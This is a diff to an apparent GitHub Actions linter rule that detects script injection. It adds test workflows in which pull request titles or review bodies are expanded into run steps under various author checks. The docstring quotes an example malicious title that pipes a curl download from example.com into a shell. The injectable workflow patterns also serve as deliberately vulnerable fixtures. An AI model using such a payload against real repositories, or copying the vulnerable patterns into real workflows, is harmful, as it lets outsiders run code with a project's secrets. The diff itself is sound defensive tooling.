@@ -6,6 +6,21 @@ from aurora_devops.kinds.github.untrusted import flowing, is_code, is_written_ou
 
 from ._edits import in_environment
 
+_GUARDED = """\
+on: pull_request_target
+jobs:
+  author:
+    if: {}
+    runs-on: ubuntu-24.04
+    steps:
+      - run: make check
+  greet:
+    needs: author
+    runs-on: ubuntu-24.04
+    steps:
+      - run: {}
+"""
+
 
 @policy(
     "GHA006",
@@ -83,6 +98,32 @@ from ._edits import in_environment
             """,
             because="only an account with write access publishes a release",
         ),
+        *(
+            good(
+                _GUARDED.format(condition, "echo ${{ github.head_ref }}"),
+                because="the author of the pull request is trusted",
+            )
+            for condition in (
+                "github.event.pull_request.user.login == 'dependabot[bot]'",
+                "github.event.pull_request.head.repo.full_name == github.repository",
+                'contains(fromJSON(\'["OWNER", "MEMBER"]\'), github.event.pull_request.author_association)',
+            )
+        ),
+        *(
+            bad(_GUARDED.format(condition, "echo ${{ «github.event.pull_request.title» }}"))
+            for condition in (
+                "github.event.pull_request.merged",
+                "github.event.label.name == 'ok-to-test'",
+                "github.event.pull_request.user.login == 'dependabot[bot]' || github.event.action == 'opened'",
+                "github.event.pull_request.user.login != 'dependabot[bot]'",
+            )
+        ),
+        bad(
+            _GUARDED.format(
+                "github.event.pull_request.user.login == 'dependabot[bot]'",
+                "echo ${{ «github.event.review.body» }}",
+            ).replace("pull_request_target", "pull_request_review")
+        ),
     ],
 )
 def script_injection(expression: Expression) -> Iterator[Finding]:
@@ -91,6 +132,8 @@ def script_injection(expression: Expression) -> Iterator[Finding]:
     A title such as `"; curl https://example.com/x | sh; "` becomes part of the script and runs with the token and the
     secrets of the job.
     Pass the text in an environment variable and quote that.
+    What the author of a pull request sets is not reported if `if` limits the step, the job or a job that it needs to
+    a named author, to members, or to branches of the repository itself; `input-in-script` reports it then.
     The fix does so, but chooses the name of the variable and may change quoting, so it is not applied by default.
 
     https://docs.github.com/en/actions/concepts/security/script-injections
@@ -99,7 +142,7 @@ def script_injection(expression: Expression) -> Iterator[Finding]:
         return
     for way, tree in flowing(expression.tree):
         for source in sources(expression, way):
-            if is_written_outside(source, expression.root):
+            if is_written_outside(source, expression):
                 name = ".".join(source)
                 message = f"'{name}' is set by anyone and expanded into the script; pass it in an environment variable"
                 fix = in_environment(expression) if tree == expression.tree else None
